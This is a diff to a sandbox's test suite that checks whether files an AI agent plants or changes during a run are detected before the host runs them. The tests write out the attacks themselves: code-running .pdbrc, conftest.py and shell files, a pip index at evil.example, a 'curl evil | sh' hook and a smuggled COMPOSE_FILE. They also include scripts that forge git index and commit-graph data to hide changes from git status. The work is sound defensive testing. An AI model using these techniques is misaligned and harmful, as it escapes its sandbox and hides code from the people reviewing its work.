@@ -5,8 +5,9 @@
 // run` is started with. Checked in-process over `plantedSince`, as the fourteenth pass's `.bin` test.
 import t from 'tap';
 import fc from 'fast-check';
-import { execFileSync } from 'node:child_process';
+import { execFileSync, spawnSync } from 'node:child_process';
 import fs from 'node:fs';
+import zlib from 'node:zlib';
 import path from 'node:path';
 import { plantedSince, removeCaches } from '../../sandbox/entry-files.ts';
 import { tempDir } from '../temp-dir.ts';
@@ -71,6 +72,35 @@ t.test('a package\'s code in node_modules or a venv changed during the run is na
   const mark = path.join(work, 'ran');
   execFileSync(process.execPath, ['-e', 'require("express")'], { cwd: work, env: { ...process.env, MARK: mark } });
   t.ok(fs.existsSync(mark), 'the changed package runs in the host\'s next program (why it is named)');
+});
+
+t.test('twenty-first pass: a package changed in Composer\'s vendor, bundler\'s vendor/bundle or __pypackages__ is named; untouched ones and Go\'s vendor are not', async (t) => {
+  const work = tempDir(t, 'hunt21-sandbox-vendor-');
+  const write = writer(work);
+  write('vendor/autoload.php', '<?php require __DIR__ . "/composer/autoload_real.php";\n');
+  write('vendor/composer/installed.json', '{"packages": []}\n');
+  write('vendor/guzzlehttp/guzzle/src/Client.php', '<?php\n');
+  write('vendor/monolog/monolog/src/Logger.php', '<?php\n');
+  write('ruby/vendor/bundle/ruby/3.3.0/gems/rack-3.0.0/lib/rack.rb', '# rack\n');
+  write('ruby/vendor/bundle/ruby/3.3.0/gems/json-2.7.0/lib/json.rb', '# json\n');
+  write('py/__pypackages__/3.12/lib/requests/__init__.py', '# requests\n');
+  write('go/vendor/github.com/x/y/y.go', 'package y\n');
+  const since = await tick();
+  const named = (): string[] => plantedSince(since, '', work).planted.map((f) => path.relative(work, f.path)).sort();
+  t.same(named(), [], 'control: installed before the run');
+  fs.appendFileSync(path.join(work, 'vendor/guzzlehttp/guzzle/src/Client.php'), 'system("touch $MARK");\n');
+  fs.appendFileSync(path.join(work, 'ruby/vendor/bundle/ruby/3.3.0/gems/rack-3.0.0/lib/rack.rb'), 'system("touch $MARK")\n');
+  fs.appendFileSync(path.join(work, 'py/__pypackages__/3.12/lib/requests/__init__.py'), 'import os; os.system("touch $MARK")\n');
+  fs.appendFileSync(path.join(work, 'go/vendor/github.com/x/y/y.go'), '// shown by git\n');
+  t.same(named(), ['py/__pypackages__/3.12/lib/requests', 'ruby/vendor/bundle/ruby/3.3.0/gems/rack-3.0.0', 'vendor/guzzlehttp'], 'each changed package is named; untouched ones and Go\'s vendor (in the diff) are not');
+  // Dart's package map and bootsnap's compile cache (Rails): the map named, a cache entry removed.
+  write('app/.dart_tool/package_config.json', '{"configVersion": 2, "packages": [{"name": "http", "rootUri": "../../.x/http"}]}\n');
+  const entry = write('rails/tmp/cache/bootsnap/compile-cache-iseq/4a/1b2c3d4e5f', 'forged');
+  const found = plantedSince(since, '', work);
+  t.ok(found.planted.some((f) => f.path === path.join(work, 'app/.dart_tool/package_config.json')), 'the package map is named');
+  t.ok(found.caches.includes(entry), 'the bootsnap entry is collected');
+  removeCaches(found.caches);
+  t.notOk(fs.existsSync(entry), 'and removed after the run');
 });
 
 t.test('an install of many packages during the run is named as one line per folder', async (t) => {
@@ -527,6 +557,60 @@ t.test('the test runners\' and Svelte\'s configs their editor extensions run on 
   t.same(named(), [...made, 'web/jest.config.js'].sort(), 'each made or changed is named; the setup file is not');
 });
 
+t.test('twenty-first pass: start files REPLs and debuggers run from the folder, build tools\' project settings and a venv\'s pip.conf are named when made or changed', async (t) => {
+  const work = tempDir(t, 'hunt21-sandbox-replrc-');
+  const write = writer(work);
+  write('app.py', 'print("app")\n');
+  write('.Rprofile', 'options(digits = 4)\n');
+  write('.venv/pyvenv.cfg', 'home = /usr/bin\n');
+  const since = await tick();
+  const named = (): string[] => plantedSince(since, '', work).planted.map((f) => path.relative(work, f.path)).sort();
+  t.same(named(), [], 'control: files made before the run');
+  const pdbrc = 'import os; os.system("touch " + os.environ["HUNT_MARK"])\ncontinue\n';
+  const made = ['.pdbrc', 'lib/.irbrc', '.pryrc', 'analysis/.Renviron', '.ghci', '.octaverc', '.bazelrc', '.jvmopts', '.sbtopts', '.mvn', 'gradle/wrapper/gradle-wrapper.jar', 'gradle/wrapper/gradle-wrapper.properties', 'ruby/.bundle'];
+  for (const f of made) {
+    if (f === '.mvn') write('.mvn/jvm.config', '-javaagent:x.jar\n');
+    else if (f.endsWith('.bundle')) write(`${f}/config`, '---\nBUNDLE_GEMFILE: "vendor/.g/Gemfile"\n');
+    else write(f, f === '.pdbrc' ? pdbrc : 'x\n');
+  }
+  fs.appendFileSync(path.join(work, '.Rprofile'), 'system("touch $MARK")\n');
+  write('.venv/pip.conf', '[global]\nindex-url = https://evil.example/simple\n');
+  t.same(named(), [...made, '.Rprofile', '.venv'].sort(), 'each made or changed is named, the venv by its pip.conf');
+  // The attack: the host's next `python3 -m pdb app.py` in the project runs the agent's .pdbrc.
+  const mark = path.join(work, 'PDB-RAN');
+  spawnSync('python3', ['-m', 'pdb', 'app.py'], { cwd: work, env: { ...process.env, HOME: path.join(work, 'no-home'), HUNT_MARK: mark }, input: '', timeout: 10_000 });
+  t.ok(fs.existsSync(mark), 'pdb on the host ran the .pdbrc the agent made');
+  // bundler's user config and plugins in the home folder are read-only inside.
+  const { homeEntryFiles } = await import('../../sandbox/entry-files.ts');
+  const home = tempDir(t, 'hunt21-sandbox-bundle-');
+  for (const f of ['.bundle/config', '.bundle/plugin/index', '.bundle/cache/x.gem']) writer(home)(f, '---\n');
+  const protectedFiles = homeEntryFiles(home, path.join(home, 'src'), [], {});
+  t.ok(protectedFiles.includes(path.join(home, '.bundle/config')) && protectedFiles.includes(path.join(home, '.bundle/plugin')), '~/.bundle/config and plugin/ are read-only inside');
+  t.notOk(protectedFiles.some((p) => p.includes('.bundle/cache')), 'its cache is not');
+});
+
+t.test('twenty-first pass: compose override files, conftest.py, the flake and shell files direnv evaluates, and COMPOSE_FILE in a .env are named when made or changed', async (t) => {
+  const work = tempDir(t, 'hunt21-sandbox-compose-');
+  const write = writer(work);
+  write('compose.yaml', 'services:\n  web:\n    image: nginx\n');
+  write('tests/test_app.py', 'def test_ok():\n    assert True\n');
+  write('flake.nix', '{ outputs = _: {}; }\n');
+  write('.env', 'PORT=8080\n');
+  const since = await tick();
+  const named = (): string[] => plantedSince(since, '', work).planted.map((f) => path.relative(work, f.path)).sort();
+  t.same(named(), [], 'control: files made before the run');
+  const made = ['compose.override.yaml', 'svc/docker-compose.override.yml', 'tests/unit/conftest.py', 'shell.nix', 'devbox.json', '.envrc.local', '.mise'];
+  for (const f of made) write(f === '.mise' ? '.mise/config.toml' : f, f.endsWith('conftest.py') ? 'import os\nopen(os.environ["HUNT_MARK"], "w").close()\n' : 'x\n');
+  fs.appendFileSync(path.join(work, 'flake.nix'), '# shellHook = "curl evil | sh";\n');
+  fs.appendFileSync(path.join(work, '.env'), 'COMPOSE_FILE=compose.yaml:.cache/evil.yaml\n');
+  write('.env.local', 'DEBUG=1\n'); // no variable that runs code
+  t.same(named(), [...made, 'flake.nix', '.env'].sort(), 'each made or changed is named; a .env.local of plain settings is not');
+  // The attack: the host's next pytest imports the conftest.py the agent made.
+  const mark = path.join(work, 'CONFTEST-RAN');
+  spawnSync('python3', ['-m', 'pytest', '-q', '-p', 'no:cacheprovider', 'tests'], { cwd: work, env: { ...process.env, HUNT_MARK: mark }, timeout: 20_000 });
+  t.ok(fs.existsSync(mark), 'pytest on the host imported it');
+});
+
 t.test('the programs ~/.ssh/config runs by path outside ~/.ssh are read-only inside and named when changed', async (t) => {
   const { homeEntryFiles, sshPrograms } = await import('../../sandbox/entry-files.ts');
   const home = tempDir(t, 'hunt20-sandbox-ssh-');
@@ -561,6 +645,249 @@ t.test('the files ~/.npmrc and tmux\'s config name by path are read-only inside 
   const since = await tick();
   fs.appendFileSync(path.join(home, 'tools/preload.js'), 'require("child_process").execSync("touch $MARK")\n');
   t.ok(plantedSince(since, home, work, '', {}).planted.some((f) => f.path === path.join(home, 'tools/preload.js')), 'a changed one is named');
+});
+
+t.test('twenty-first pass: the programs and scripts the other home configs run by path are read-only inside and named when changed', async (t) => {
+  const { homeEntryFiles, configNamedFiles } = await import('../../sandbox/entry-files.ts');
+  const home = tempDir(t, 'hunt21-sandbox-confprog-');
+  const write = writer(home);
+  write('.bashrc', 'HISTFILE=~/.bash_history\neval "$(~/tools/zoxide init bash)"\n"$HOME/scripts/motd" --short\n# ~/scripts/commented.sh\n');
+  write('.config/starship.toml', '[custom.branch]\ncommand = "~/scripts/branch.sh"\nwhen = true\n');
+  write('.vimrc', 'set dictionary=~/notes.txt\nsource ~/dotfiles/extra.vim\n');
+  write('.config/nvim/init.lua', `dofile("${home}/lua-extra/init.lua")\n-- dofile("~/lua-extra/old.lua")\n`);
+  write('.config/kitty/kitty.conf', 'map ctrl+p launch --type=overlay ~/bin-kitty/pick\n');
+  write('.emacs', '(load "~/elisp/extra.el")\n');
+  write('.config/fish/config.fish', 'source ~/fish-extra/abbr.fish\n');
+  for (const f of ['tools/zoxide', 'scripts/motd', 'bin-kitty/pick', 'scripts/commented.sh']) {
+    write(f, '#!/bin/sh\n');
+    fs.chmodSync(path.join(home, f), 0o755);
+  }
+  for (const f of ['scripts/branch.sh', 'dotfiles/extra.vim', 'lua-extra/init.lua', 'lua-extra/old.lua', 'elisp/extra.el', 'fish-extra/abbr.fish', '.bash_history', 'notes.txt']) {
+    write(f, '');
+    fs.chmodSync(path.join(home, f), 0o644);
+  }
+  const named = configNamedFiles(home).map((p) => path.relative(home, p)).sort();
+  t.same(named, ['bin-kitty/pick', 'dotfiles/extra.vim', 'elisp/extra.el', 'fish-extra/abbr.fish', 'lua-extra/init.lua', 'scripts/branch.sh', 'scripts/motd', 'tools/zoxide'],
+    'each program or script named; not a history or a word list (data), not a commented line');
+  const work = path.join(home, 'src');
+  fs.mkdirSync(work);
+  const protectedFiles = homeEntryFiles(home, work, [], {});
+  for (const f of named) t.ok(protectedFiles.includes(path.join(home, f)), `~/${f} is read-only inside`);
+  t.notOk(protectedFiles.includes(path.join(home, '.bash_history')), 'the history stays writable');
+  const since = await tick();
+  fs.appendFileSync(path.join(home, 'tools/zoxide'), 'touch $MARK\n'); // where --writable unlocked it
+  fs.appendFileSync(path.join(home, '.bash_history'), 'ls\n'); // the user's other shell
+  const planted = plantedSince(since, home, work, '', {}).planted.map((f) => path.relative(home, f.path));
+  t.ok(planted.includes('tools/zoxide'), 'a changed one is named');
+  t.notOk(planted.includes('.bash_history'), 'the history written meanwhile is not');
+});
+
+// Twenty-first pass: git's fsmonitor data. With the user's core.fsmonitor, git looks only at the
+// entries the hook reports changed since the index's token (or marks dirty); the agent rewrites
+// the extension with a token in the future and no entry dirty.
+const FSMONITOR_HOOK = `#!/bin/sh
+# protocol 1: git passes the time of its last query (ns); the files changed since, NUL-separated
+secs=$(( $2 / 1000000000 ))
+find . -path ./.git -prune -o -type f -newermt "@$secs" -print0 | sed -z 's|^\\./||'
+`;
+const FORGE_FSMONITOR = `
+import hashlib, struct, sys, time
+index = sys.argv[1]
+b = open(index, 'rb').read()
+body = b[:-20]
+at = body.find(b'FSMN')
+ln = struct.unpack('>I', body[at + 4:at + 8])[0]
+count = struct.unpack('>I', body[8:12])[0]
+if sys.argv[2] == '2':
+    head = struct.pack('>I', 2) + str(time.time_ns() + 86400 * 10**9).encode() + b'\\0'
+else:
+    head = struct.pack('>IQ', 1, time.time_ns() + 86400 * 10**9)
+ewah = struct.pack('>IIQI', count, 1, 0, 0)
+ext = head + struct.pack('>I', len(ewah)) + ewah
+body = body[:at] + b'FSMN' + struct.pack('>I', len(ext)) + ext + body[at + 8 + ln:]
+open(index, 'wb').write(body + hashlib.sha1(body).digest())
+`;
+
+t.test('twenty-first pass: a change hidden by forged fsmonitor data in git\'s index (a token in the future) is named; the watcher\'s own data is not', async (t) => {
+  const repo = tempDir(t, 'hunt21-sandbox-fsmn-');
+  const hook = writer(repo)('.hook/fsmonitor', FSMONITOR_HOOK);
+  for (const f of ['app.py', 'util.py', 'lib/db.py', 'later.py']) writer(repo)(f, `print(${JSON.stringify(f)})\n`);
+  writer(repo)('.gitignore', '.hook/\n');
+  git(repo, 'init', '-q');
+  git(repo, 'add', '.');
+  git(repo, 'commit', '-qm', 'init');
+  git(repo, 'config', 'core.fsmonitor', hook); // the user's, before the run
+  git(repo, 'config', 'core.fsmonitorHookVersion', '1');
+  const old = (Date.now() - 5000) / 1000;
+  for (const f of ['app.py', 'util.py', 'lib/db.py', 'later.py']) fs.utimesSync(path.join(repo, f), old, old);
+  git(repo, 'update-index', '--fsmonitor');
+  git(repo, 'status', '--porcelain');
+  t.match(fs.readFileSync(path.join(repo, '.git', 'index')).toString('latin1'), /FSMN/, 'the index holds fsmonitor data');
+  const since = await tick();
+  const named = (): string[] => plantedSince(since, '', repo).planted.map((f) => path.relative(repo, f.path)).sort();
+  // Controls: the agent's own git status inside, then an edit after it (the watcher reports it),
+  // and a change git shows.
+  fs.writeFileSync(path.join(repo, 'util.py'), 'print("visible")\n');
+  git(repo, 'status', '--porcelain');
+  fs.writeFileSync(path.join(repo, 'later.py'), 'print("edited after the agent\'s git status")\n');
+  t.same(named(), [], 'control: the watcher\'s own data, changes it reports');
+  t.same(git(repo, 'status', '--porcelain').split('\n').filter(Boolean).sort(), [' M later.py', ' M util.py'], 'git status shows both');
+  for (const version of ['2', '1']) {
+    fs.writeFileSync(path.join(repo, 'app.py'), `import os; os.system("touch $MARK")  # ${version}\n`);
+    fs.appendFileSync(path.join(repo, 'lib/db.py'), `# ${version}\n`);
+    git(repo, 'add', 'later.py', 'util.py');
+    execFileSync('python3', ['-c', FORGE_FSMONITOR, path.join(repo, '.git', 'index'), version]);
+    t.equal(git(repo, 'status', '--porcelain'), 'M  later.py\nM  util.py\n', `the attack (extension version ${version}): git status shows only the staged files`);
+    t.equal(git(repo, 'diff', '--name-only'), '', 'git diff nothing');
+    t.same(named(), ['app.py', 'lib/db.py'], 'each hidden change is named, the staged ones are not');
+    t.match(plantedSince(since, '', repo).planted.find((f) => f.path === path.join(repo, 'app.py'))?.why ?? '', /fsmonitor/, 'the reason names the fsmonitor data');
+  }
+});
+
+t.test('twenty-first pass: a function changed in a folder the zsh rc files put on fpath is named', async (t) => {
+  const home = tempDir(t, 'hunt21-sandbox-fpath-');
+  const write = writer(home);
+  write('.zshrc', 'fpath+=~/.zfunc\nfpath=("$HOME/.zsh-completions" $fpath)\nautoload -Uz compinit && compinit\n');
+  write('.zfunc/_rustup', '#compdef rustup\n');
+  write('.zsh-completions/_docker', '#compdef docker\n');
+  write('notes/_todo', 'x\n');
+  const work = path.join(home, 'src');
+  fs.mkdirSync(work);
+  const since = await tick();
+  const named = (): string[] => plantedSince(since, home, work, '', {}).planted.map((f) => path.relative(home, f.path)).sort();
+  t.same(named(), [], 'control: nothing changed');
+  fs.appendFileSync(path.join(home, '.zfunc/_rustup'), 'touch $MARK\n');
+  write('.zsh-completions/_git', '#compdef git\ntouch $MARK\n');
+  fs.appendFileSync(path.join(home, 'notes/_todo'), 'y\n');
+  t.same(named(), ['.zfunc/_rustup', '.zsh-completions/_git'], 'the changed and the new function are named; a folder not on fpath is not');
+});
+
+t.test('twenty-first pass: the plugin folders of vim-plug, rocks.nvim and dein are read-only inside', async (t) => {
+  const { homeEntryFiles } = await import('../../sandbox/entry-files.ts');
+  const home = tempDir(t, 'hunt21-sandbox-nvimplug-');
+  const folders = ['.local/share/nvim/plugged', '.local/share/nvim/rocks', '.cache/dein'];
+  for (const f of folders) writer(home)(`${f}/x/plugin/x.lua`, '');
+  const bound = homeEntryFiles(home, path.join(home, 'src'), [], {});
+  for (const f of folders) t.ok(bound.includes(path.join(home, f)), `~/${f}`);
+});
+
+t.test('twenty-first pass: a loose object of git\'s store rewritten during the run (the blob of a committed file) is named; the agent\'s own commits are not', async (t) => {
+  const repo = tempDir(t, 'hunt21-sandbox-object-');
+  for (const f of ['app.py', 'util.py']) writer(repo)(f, `print(${JSON.stringify(f)})\n`);
+  git(repo, 'init', '-q');
+  git(repo, 'add', '.');
+  git(repo, 'commit', '-qm', 'init');
+  const since = await tick();
+  const named = (): string[] => plantedSince(since, '', repo).planted.map((f) => path.relative(repo, f.path)).sort();
+  // Control: the agent's own work, committed (new loose objects).
+  fs.appendFileSync(path.join(repo, 'app.py'), 'print("more")\n');
+  git(repo, 'commit', '-qam', 'agent');
+  t.same(named(), [], 'control: objects the agent wrote as git writes them');
+  // The attack: util.py's blob rewritten in place with the agent's code.
+  const oid = git(repo, 'rev-parse', 'HEAD:util.py').trim();
+  const object = path.join(repo, '.git', 'objects', oid.slice(0, 2), oid.slice(2));
+  const body = Buffer.from('import os; os.system("touch $MARK")\n');
+  fs.chmodSync(object, 0o644);
+  fs.writeFileSync(object, zlib.deflateSync(Buffer.concat([Buffer.from(`blob ${body.length}\0`), body])));
+  t.equal(git(repo, 'status', '--porcelain'), '', 'git status shows nothing');
+  t.equal(git(repo, 'diff', 'HEAD'), '', 'nor git diff HEAD');
+  t.match(git(repo, 'show', 'HEAD:util.py'), /os\.system/, 'the attack: git reads the agent\'s content as util.py at HEAD (checkout, stash and reset write it)');
+  t.same(named(), [path.relative(repo, object)], 'the rewritten object is named');
+  // The same carried into a pack by the agent's git repack (git copies the object as it is; not
+  // writing info/refs, read-only inside).
+  git(repo, '-c', 'repack.updateServerInfo=false', 'repack', '-a', '-d', '-q');
+  t.notOk(fs.existsSync(object), 'the loose object is gone into a pack');
+  t.match(git(repo, 'show', 'HEAD:util.py'), /os\.system/, 'git still reads the agent\'s content');
+  const packs = fs.readdirSync(path.join(repo, '.git', 'objects', 'pack')).filter((n) => n.endsWith('.pack')).map((n) => path.join('.git', 'objects', 'pack', n));
+  t.same(named(), packs, 'the pack holding it is named');
+  // Control: a pack of true objects made during the run.
+  const clean = tempDir(t, 'hunt21-sandbox-pack-');
+  writer(clean)('a.py', 'print(1)\n');
+  git(clean, 'init', '-q');
+  git(clean, 'add', '.');
+  git(clean, 'commit', '-qm', 'init');
+  const since2 = await tick();
+  git(clean, '-c', 'repack.updateServerInfo=false', 'repack', '-a', '-d', '-q');
+  t.same(plantedSince(since2, '', clean).planted, [], 'control: a pack git made of true objects is not named');
+});
+
+// Twenty-first pass: git reads a commit's tree from the commit-graph; the agent's graph names the
+// tree of its staged change for HEAD.
+const FORGE_GRAPH = `
+import hashlib, struct, sys
+graph, head, tree = sys.argv[1], bytes.fromhex(sys.argv[2]), bytes.fromhex(sys.argv[3])
+b = bytearray(open(graph, 'rb').read())
+chunks = {}
+for i in range(b[6] + 1):
+    chunks[bytes(b[8 + 12 * i:12 + 12 * i])] = struct.unpack('>Q', b[12 + 12 * i:20 + 12 * i])[0]
+count = struct.unpack('>I', b[chunks[b'OIDF'] + 255 * 4:chunks[b'OIDF'] + 256 * 4])[0]
+for k in range(count):
+    if bytes(b[chunks[b'OIDL'] + 20 * k:chunks[b'OIDL'] + 20 * k + 20]) == head:
+        b[chunks[b'CDAT'] + 36 * k:chunks[b'CDAT'] + 36 * k + 20] = tree
+b[-20:] = hashlib.sha1(bytes(b[:-20])).digest()
+open(graph, 'wb').write(bytes(b))
+`;
+
+t.test('twenty-first pass: a commit-graph written during the run that names another tree for HEAD is named; a true one is not', async (t) => {
+  const repo = tempDir(t, 'hunt21-sandbox-graph-');
+  writer(repo)('app.py', 'print(1)\n');
+  git(repo, 'init', '-q');
+  git(repo, 'add', '.');
+  git(repo, 'commit', '-qm', 'init');
+  writer(repo)('b.py', 'print(2)\n');
+  git(repo, 'add', '.');
+  git(repo, 'commit', '-qm', 'two');
+  const since = await tick();
+  const named = (): string[] => plantedSince(since, '', repo).planted.map((f) => path.relative(repo, f.path)).sort();
+  git(repo, 'commit-graph', 'write', '--reachable');
+  t.same(named(), [], 'control: the agent\'s own git commit-graph write');
+  fs.writeFileSync(path.join(repo, 'app.py'), 'import os; os.system("touch $MARK")\n');
+  git(repo, 'add', 'app.py');
+  const tree = git(repo, 'write-tree').trim();
+  const graph = path.join(repo, '.git', 'objects', 'info', 'commit-graph');
+  fs.chmodSync(graph, 0o644);
+  execFileSync('python3', ['-c', FORGE_GRAPH, graph, git(repo, 'rev-parse', 'HEAD').trim(), tree]);
+  t.equal(git(repo, 'status', '--porcelain'), '', 'the attack: git status shows nothing of the staged change');
+  t.equal(git(repo, 'diff', 'HEAD'), '', 'nor git diff HEAD');
+  t.same(named(), ['.git/objects/info/commit-graph'], 'the graph is named');
+  // An alternate object folder of the agent's, serving util.py's blob once the real one is gone.
+  fs.rmSync(graph);
+  git(repo, 'reset', '-q', '--hard');
+  writer(repo)('util.py', 'print("util")\n');
+  git(repo, 'add', 'util.py');
+  git(repo, 'commit', '-qm', 'util');
+  const since2 = await tick();
+  const oid = git(repo, 'rev-parse', 'HEAD:util.py').trim();
+  const alt = path.join(tempDir(t, 'hunt21-sandbox-alt-'), 'objects');
+  const body = Buffer.from('import os; os.system("touch $MARK")\n');
+  writer(alt)(path.join(oid.slice(0, 2), oid.slice(2)), '');
+  fs.writeFileSync(path.join(alt, oid.slice(0, 2), oid.slice(2)), zlib.deflateSync(Buffer.concat([Buffer.from(`blob ${body.length}\0`), body])));
+  fs.writeFileSync(path.join(repo, '.git', 'objects', 'info', 'alternates'), `${alt}\n`);
+  fs.rmSync(path.join(repo, '.git', 'objects', oid.slice(0, 2), oid.slice(2)), { force: true });
+  t.match(git(repo, 'show', 'HEAD:util.py'), /os\.system/, 'the attack: git reads util.py at HEAD from the agent\'s folder');
+  t.equal(git(repo, 'status', '--porcelain'), '', 'git status shows nothing');
+  t.same(plantedSince(since2, '', repo).planted.map((f) => path.relative(repo, f.path)), ['.git/objects/info/alternates'], 'the alternates file is named');
+});
+
+t.test('twenty-first pass: a change hidden in another linked worktree of the repository (its own index) is named', async (t) => {
+  const base = tempDir(t, 'hunt21-sandbox-otherwt-');
+  const repo = path.join(base, 'app');
+  writer(repo)('app.py', 'print("app")\n');
+  git(repo, 'init', '-q');
+  git(repo, 'add', '.');
+  git(repo, 'commit', '-qm', 'init');
+  const other = path.join(base, 'app-feature');
+  git(repo, 'worktree', 'add', '-q', other);
+  const since = await tick();
+  agentHides(other, 'app.py', 'skip-worktree');
+  t.equal(git(other, 'status', '--porcelain'), '', 'the attack: git status in the other worktree shows nothing');
+  t.same(plantedSince(since, '', repo).planted.map((f) => f.path), [path.join(other, 'app.py')], 'named from the working directory\'s run');
+  // And the main working tree's, from a run in the linked one.
+  const since2 = await tick();
+  git(other, 'update-index', '--no-skip-worktree', 'app.py');
+  git(other, 'checkout', '--', 'app.py');
+  agentHides(repo, 'app.py', 'assume-unchanged');
+  t.same(plantedSince(since2, '', other).planted.map((f) => f.path), [path.join(repo, 'app.py')], 'the main working tree\'s hidden change named from a run in the linked one');
 });
 
 t.test('a change to a file the user marked before the run is named, though the agent left the index alone', async (t) => {
